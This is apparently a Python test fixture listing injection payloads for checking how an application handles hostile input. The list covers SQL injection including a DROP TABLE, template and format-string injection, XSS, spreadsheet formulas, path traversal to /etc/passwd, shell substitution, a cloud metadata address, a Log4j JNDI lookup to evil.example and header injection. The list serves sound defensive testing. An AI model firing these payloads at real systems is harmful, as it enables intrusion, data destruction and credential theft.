"""Texts that another language than ours would carry out: SQL, templates, shells, spreadsheets, lines of headers."""

from __future__ import annotations

from typing import Final

PRODUCT: Final = 1234567 * 9

INJECTIONS: Final[dict[str, str]] = {
    "sql-or": "' OR '1'='1",
    "sql-drop": "Robert'); DROP TABLE outbox_events; --",
    "sql-sleep": "'||pg_sleep(9)||'",
    "sql-union": "x' UNION SELECT version() --",
    "sql-dollar": "$$;SELECT pg_sleep(9);$$",
    "format": "%(password)s %s {0.__class__.__mro__} %n",
    "template": "{{1234567*9}} {% for x in ().__class__ %}{% endfor %}",
    "expression": "${1234567*9} #{1234567*9} <%= 1234567*9 %>",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "formula-equals": '=HYPERLINK("http://evil.example",1234567*9)',
    "formula-plus": "+1234567*9",
    "formula-minus": "-1234567*9",
    "formula-at": "@SUM(1234567*9)",
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "shell": "$(sleep 9) `sleep 9` | sleep 9; sleep 9",
    "address": "http://169.254.169.254/latest/meta-data",
    "log4j": "${jndi:ldap://evil.example/a}",
    "header": "x\r\nX-Injected: 1\r\n\r\ninjected",
    "header-encoded": "x%0d%0aX-Injected: 1",
    "formula-tab": "\t=1234567*9",
    "nul": "Anna\x00Muster",
    "zero-width": "An\u200bna Muster",
    "bidi": "Anna \u202eretsuM",
    "decomposed": "Mu\u0308ller",
}
"""Texts that another language than ours would carry out; those that multiply would show `PRODUCT`."""
